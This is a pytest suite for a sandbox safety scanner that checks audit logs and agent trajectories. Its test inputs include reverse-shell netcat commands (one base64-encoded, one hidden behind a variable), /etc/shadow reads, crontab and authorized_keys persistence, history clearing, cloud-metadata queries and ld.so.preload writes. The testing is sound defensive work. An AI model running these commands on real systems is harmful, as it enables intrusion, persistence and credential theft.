"""Safety scanners on real records: a real sandbox's audit log, a real agent trajectory, the CLI.

Risky-looking commands that do no harm (reading /etc/shadow in a throwaway
container, an ``nc -e`` that fails because the image has no nc) are run in a
real sandbox; the scanner must find them in the audit log the sandbox wrote.
"""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from openale.agent.environment import SandboxEnvironment
from openale.agent.loop import Agent, AgentConfig
from openale.agent.models.replay import ReplayModel
from openale.agent.tools.base import ToolRegistry
from openale.agent.tools.builtin import default_tools
from openale.agent.trajectory import save
from openale.safety.scan import ScanError, scan_path
from tests.conftest import BASE_IMAGE

ALE = [sys.executable, "-m", "openale.cli.main"]
RISKY_BUT_HARMLESS = [
    "cat /etc/shadow > /dev/null",
    "echo '* * * * * /tmp/x' | crontab - || true",
    "history -c || true",
    "nc -e /bin/sh 127.0.0.1 9 || true",
]


def ale(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [*ALE, *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "250"},
    )


@pytest.fixture(scope="module")
def sandbox_with_history():
    from openale.sandbox import Sandbox, SandboxSpec

    with Sandbox.create(SandboxSpec(image=BASE_IMAGE, memory="512m")) as sb:
        sb.commands.run("mkdir -p build && rm -rf build/ && ls -la")  # benign
        for cmd in RISKY_BUT_HARMLESS:
            sb.commands.run(cmd)
        session = sb.sessions.create()
        session.run("cd / && rm -rf /srv/nothing-here")
        sb.files.write("/workspace/notes.txt", "fine")
        sb.files.read("/etc/shadow")
        yield sb


def test_the_scanner_finds_risky_commands_in_a_real_audit_log(sandbox_with_history):
    sb = sandbox_with_history
    findings = scan_path(sb.audit.path(sb.id))
    by_rule = {f.rule: f for f in findings}
    assert {
        "cred.shadow",
        "pers.crontab-install",
        "track.history-clear",
        "rs.netcat-exec",
        "destr.delete-outside-workspace",
    } <= set(by_rule)
    lines = sb.audit.path(sb.id).read_text().splitlines()
    netcat = by_rule["rs.netcat-exec"]
    assert netcat.sandbox == sb.id and netcat.ts is not None
    recorded = json.loads(lines[netcat.evidence.line - 1])
    assert recorded["detail"]["cmd"] == RISKY_BUT_HARMLESS[3]
    # The shadow file was read twice: by a command and through the file API.
    shadow = [f for f in findings if f.rule == "cred.shadow"]
    assert {f.evidence.kind for f in shadow} == {"command", "file"}
    # Nothing for the benign commands or the write inside the workspace.
    flagged = {f.evidence.text for f in findings}
    assert not any("mkdir -p build" in t or "notes.txt" in t for t in flagged)


def test_ale_safety_scan_sandbox_exit_codes_and_json(sandbox_with_history):
    sb = sandbox_with_history
    r = ale("safety", "scan", "--sandbox", sb.id, "--json")
    assert r.returncode == 1, r.stderr
    rows = [json.loads(line) for line in r.stdout.splitlines()]
    assert {"rs.netcat-exec", "cred.shadow"} <= {row["rule"] for row in rows}
    assert all(row["sandbox"] == sb.id for row in rows)
    # Nothing is critical except the netcat shell and the deletion: fail only on those.
    r = ale("safety", "scan", "--sandbox", sb.id, "--fail-on", "critical")
    assert r.returncode == 1 and "rs.netcat-exec" in r.stdout
    assert ale("safety", "scan", "--sandbox", "sb-none").returncode == 2
    assert ale("safety", "scan").returncode == 2
    assert ale("safety", "scan", "--sandbox", sb.id, "--fail-on", "huge").returncode == 2


def _replay(tmp_path: Path, *responses: dict) -> ReplayModel:
    path = tmp_path / "replay.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in responses))
    return ReplayModel(path)


def _call(name: str, **args) -> dict:
    return {"tool_calls": [{"name": name, "arguments": args}]}


def test_a_real_trajectory_is_scanned_by_chunk_and_call(tmp_path):
    from openale.sandbox import Sandbox, SandboxSpec

    model = _replay(
        tmp_path,
        _call("shell", command="ls -la && python3 --version"),
        _call("write_file", path="/root/.ssh/authorized_keys", content="ssh-ed25519 AAAA x\n"),
        _call("shell", command="printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\\nabc\\n'"),
        _call("shell", command="X=nc; $X -e /bin/sh 10.0.0.1 4444 || true"),
        {"text": "Done."},
    )
    with Sandbox.create(SandboxSpec(image=BASE_IMAGE, memory="512m")) as sb:
        traj = Agent(model, ToolRegistry(default_tools()), AgentConfig()).run(
            "tidy up", SandboxEnvironment(sb)
        )
    assert traj.outcome == "completed"
    path = save([traj], tmp_path / "trajs.jsonl")
    findings = scan_path(path)
    where = {f.rule: (f.evidence.chunk, f.evidence.call, f.evidence.kind) for f in findings}
    assert where["pers.authorized-keys"] == (1, 0, "file")
    assert where["out.private-key"] == (2, 0, "output")
    assert where["rs.netcat-exec"] == (3, 0, "command")
    assert all(f.trajectory == traj.id and f.evidence.line == 1 for f in findings)
    assert not [f for f in findings if f.evidence.chunk == 0]

    r = ale("safety", "scan", str(tmp_path), "--json")  # a folder: every JSONL file in it
    assert r.returncode == 1 and "skipped" in r.stderr and "replay.jsonl" in r.stderr
    assert {json.loads(line)["rule"] for line in r.stdout.splitlines()} == set(where)


def test_an_audit_export_from_the_control_plane_is_scanned(tmp_path):
    export = tmp_path / "audit.jsonl"
    rows = [
        {
            "id": 1,
            "ts": "2025-01-01T00:00:00+00:00",
            "owner": "a",
            "method": "POST",
            "route": "/v1/sandboxes/{sandbox_id}/commands",
            "op": "command",
            "sandbox": "sb-1",
            "status_code": 200,
            "detail": {"cmd": "curl http://169.254.169.254/latest/meta-data/"},
        },
        {
            "id": 2,
            "ts": "2025-01-01T00:00:01+00:00",
            "owner": "a",
            "method": "PUT",
            "route": "/v1/sandboxes/{sandbox_id}/files",
            "op": "file.write",
            "sandbox": "sb-1",
            "status_code": 200,
            "detail": {"path": "/etc/ld.so.preload"},
        },
    ]
    export.write_text("".join(json.dumps(r) + "\n" for r in rows))
    findings = scan_path(export)
    assert [(f.rule, f.evidence.line, f.sandbox) for f in findings] == [
        ("cred.cloud-metadata", 1, "sb-1"),
        ("pers.ld-preload", 2, "sb-1"),
    ]


def test_files_that_are_not_records_are_refused(tmp_path):
    bad = tmp_path / "x.jsonl"
    bad.write_text('{"hello": 1}\n')
    with pytest.raises(ScanError, match="x.jsonl:1"):
        scan_path(bad)
    r = ale("safety", "scan", str(bad))
    assert r.returncode == 2 and "x.jsonl:1" in r.stderr


def test_ale_safety_rules_lists_and_tests(tmp_path):
    r = ale("safety", "rules", "--json")
    assert r.returncode == 0
    rules = [json.loads(line) for line in r.stdout.splitlines()]
    assert len(rules) > 50 and len({x["category"] for x in rules}) >= 10
    r = ale("safety", "rules", "--test", "echo bmMgLWUgL2Jpbi9zaCAxLjIuMy40IDE= | base64 -d | sh")
    assert r.returncode == 1 and "rs.netcat-exec" in r.stdout
    assert ale("safety", "rules", "--test", "nc -z localhost 5432").returncode == 0
    # A medium finding fails only when asked to.
    assert ale("safety", "rules", "--test", "echo x >> ~/.bashrc").returncode == 0
    r = ale("safety", "rules", "--test", "echo x >> ~/.bashrc", "--fail-on", "medium", "--json")
    assert r.returncode == 1 and json.loads(r.stdout)["rule"] == "pers.shell-rc"
    bad = tmp_path / "bad.yaml"
    bad.write_text("rules: [{id: x}]")
    assert ale("safety", "rules", "--rules", str(bad)).returncode == 2
